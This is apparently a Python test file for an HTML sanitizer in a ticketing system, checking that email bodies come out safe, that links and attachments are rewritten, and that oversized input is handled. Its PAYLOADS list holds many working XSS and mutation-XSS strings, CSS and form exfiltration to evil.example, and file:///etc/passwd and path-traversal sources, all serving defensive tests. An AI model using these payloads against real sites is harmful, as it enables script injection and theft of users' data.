from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sangdam.foundation.sanitizing import clean_html, looks_like_html, render_body
from sangdam.foundation.sanitizing.weight import TAG_LIMIT, is_heavy

ATTACHMENT = "/support/api/v2/ticket/attachments/8f0dc5854d2446b6aa2e6e41a0a2f55c"
SAFE_ATTRIBUTES = {
    *("href", "title", "target", "rel", "src", "alt", "width", "height", "loading", "referrerpolicy", "dir"),
    *("start", "colspan", "rowspan", "align", "valign"),
}
UNSAFE_TAGS = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select"),
    *("base", "meta", "link", "template", "noscript", "title", "video", "audio", "frame", "frameset", "font"),
}

# The classes of peers' advisories: each payload must leave nothing that runs, loads or submits.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style><img src=x onerror=alert(1)></style>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<p class="modal" id="app" onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="/console/sign-out">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example/"><input name="password"><button>send</button></form>',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<textarea></textarea><img src=x onerror="alert(1)">',
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<table><td><form><input></table>",
    '<a title="<img src=" href="https://e.example/ >"><img src="https://x.example/a.png">',
    '<img alt="<script>alert(1)</script>" src="https://x.example/a.png">',
    '<img alt=\'"><script>alert(1)</script>\' src="https://x.example/?q=%22><script>alert(1)</script>">',
    '<img src="https://[bad" alt="<b onclick=alert(1)>">',
    "<p><b id=1><i id=2><p><b id=3>",
]


class Inspector(HTMLParser):
    """Collects what a browser could act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def assert_harmless(html: str) -> None:
    seen = Inspector(html)
    assert not UNSAFE_TAGS & set(seen.tags)
    assert {name for _, name, _ in seen.attributes} <= SAFE_ATTRIBUTES
    assert all(
        value.startswith(("http:", "https:", "mailto:", "tel:", "/support/api/v2/ticket/attachments/"))
        for _, name, value in seen.attributes
        if name == "href"
    )
    assert all(value == ATTACHMENT for _, name, value in seen.attributes if name == "src")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_harmless(payload):
    assert_harmless(clean_html(payload))


@given(st.lists(st.sampled_from([*PAYLOADS, "<p>", "</p>", "<table>", "<td>", "<!--", "</a>", '"', "'", ">", "x"])))
def test_payloads_mixed_at_will_come_out_harmless_and_stay_as_they_are(pieces):
    cleaned = clean_html("".join(pieces))
    assert_harmless(cleaned)
    again = clean_html(cleaned)
    assert Inspector(again).tags == Inspector(cleaned).tags
    # nh3 writes the attributes it adds in any order.
    assert sorted(Inspector(again).attributes) == sorted(Inspector(cleaned).attributes)


def test_attachments_are_absolute_in_a_mail():
    html = f'<img src="{ATTACHMENT}"><a href="{ATTACHMENT}?type=download">x</a><p>src="{ATTACHMENT}"</p>'
    cleaned = clean_html(html, base_url="https://acme.example")
    assert {value for _, name, value in Inspector(cleaned).attributes if name in {"src", "href"}} == {
        f"https://acme.example{ATTACHMENT}",
        f"https://acme.example{ATTACHMENT}?type=download",
    }
    assert f'<p>src="{ATTACHMENT}"</p>' in cleaned


def test_structure_of_an_ordinary_mail_stays():
    html = (
        "<h2>Order</h2><p>Dear <strong>Kim</strong>,<br>see</p><ul><li>one</li></ul>"
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table><blockquote>earlier</blockquote><pre>x = 1</pre>'
    )
    assert clean_html(html) == html


def test_links_open_apart_and_tell_nothing():
    assert clean_html('<a href="https://example.com/?a=1&amp;b=2">x</a>') == (
        '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_own_attachment_stays_an_image():
    cleaned = clean_html(f'<img src="{ATTACHMENT}" alt="photo" width="10" height="1e9">')
    assert {(name, value) for _, name, value in Inspector(cleaned).attributes} == {
        *(("src", ATTACHMENT), ("alt", "photo"), ("width", "10")),
        *(("loading", "lazy"), ("referrerpolicy", "no-referrer")),
    }


@pytest.mark.parametrize(
    "source",
    [
        f"{ATTACHMENT}/../../../../console",
        f"{ATTACHMENT}0",
        f"{ATTACHMENT}?type=open&next=1",
        ATTACHMENT.upper(),
        "/sup%70ort/api/v2/ticket/attachments/8f0dc5854d2446b6aa2e6e41a0a2f55c",
        "file:///etc/passwd",
        "\\\\host\\share\\x.png",
        "x.png",
        "cid:part1",
    ],
)
def test_any_other_image_address_goes(source):
    assert clean_html(f'before<img src="{source}">after') == "beforeafter"


def test_attachment_of_another_service_goes_when_the_service_is_given():
    html = f'<img src="{ATTACHMENT}">'
    assert "<img" in clean_html(html, service_id="support")
    assert clean_html(html, service_id="other") == ""


def test_remote_image_becomes_a_visible_link():
    cleaned = clean_html('<img src="https://tracker.example/p.gif?u=1&amp;v=2" alt="our <logo>">')
    assert cleaned == (
        '<a href="https://tracker.example/p.gif?u=1&amp;v=2" target="_blank" rel="noopener noreferrer nofollow">'
        "our &lt;logo&gt;</a>"
    )


def test_remote_image_without_words_shows_its_address():
    assert ">https://tracker.example/p.gif</a>" in clean_html('<img src="https://tracker.example/p.gif" alt=" ">')


def test_image_that_cannot_be_shown_leaves_its_words():
    assert clean_html('<img src="cid:logo" alt="Acme logo">') == "Acme logo"


def test_twenty_thousand_links_are_shown_as_links():
    cleaned = clean_html('<a href="https://example.com/">x</a>' * 20_000)
    assert cleaned.count("<a href=") == 20_000


def test_thousand_levels_keep_their_words():
    assert "deepest" in clean_html("<div>" * 1000 + "deepest")
    assert clean_html("<div>" * 500 + "deepest").startswith("<div><div>")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "kept",
        "<a " + " ".join(f"a{i}=1" for i in range(100_000)) + ">kept</a>",
        "kept" + "<script" * 300_000,
        "<p>" * 700_000 + "kept",
    ],
    ids=["deep", "attributes", "unfinished", "long"],
)
def test_a_document_too_heavy_to_parse_is_shown_as_its_words(html):
    assert is_heavy(html)
    assert clean_html(html).startswith("<p>kept")


def test_formatting_that_would_repeat_itself_in_each_paragraph_does_not():
    # nh3 alone makes 500 x 2,000 elements (7 MB) of this.
    html = "<p>" + "".join(f"<b id={i}>" for i in range(500)) + "</p><p>x" * 2000
    assert len(html) < len(clean_html(html)) < 10 * len(html)


def test_pasted_picture_goes_and_the_words_stay():
    html = '<p>see</p><img src="data:image/png;base64,' + "A" * 1_500_000 + '"><p>below</p>'
    assert clean_html(html) == "<p>see</p><p>below</p>"


def test_the_tag_limit_leaves_room_for_a_long_mail():
    assert not is_heavy("<p>x</p>" * TAG_LIMIT)
    assert is_heavy("<p>x</p>" * (TAG_LIMIT + 1))


@pytest.mark.parametrize("text", ["<p>x</p>", "a<br>b", "<BR/>", '<img src="/x">', "<script>", "x</div>"])
def test_html_is_recognised(text):
    assert looks_like_html(text)


@pytest.mark.parametrize("text", ["", "a < b > c", "<kim@example.com>", "<3", "1<p", "<https://example.com>", "<김>"])
def test_text_is_not_taken_for_html(text):
    assert not looks_like_html(text)


def test_a_text_body_is_escaped_whatever_it_looks_like():
    assert render_body("<b>x</b>", "text") == "<p>&lt;b&gt;x&lt;/b&gt;</p>"


def test_a_body_of_unknown_kind_keeps_its_lines_around_an_inline_image():
    rendered = render_body(f'first\r\nsecond <img src="{ATTACHMENT}"/>')
    assert rendered.startswith("first<br>\nsecond <img src=")


def test_an_html_body_with_blocks_gets_no_further_breaks():
    assert render_body("<p>a</p>\n<p>b</p>") == "<p>a</p>\n<p>b</p>"
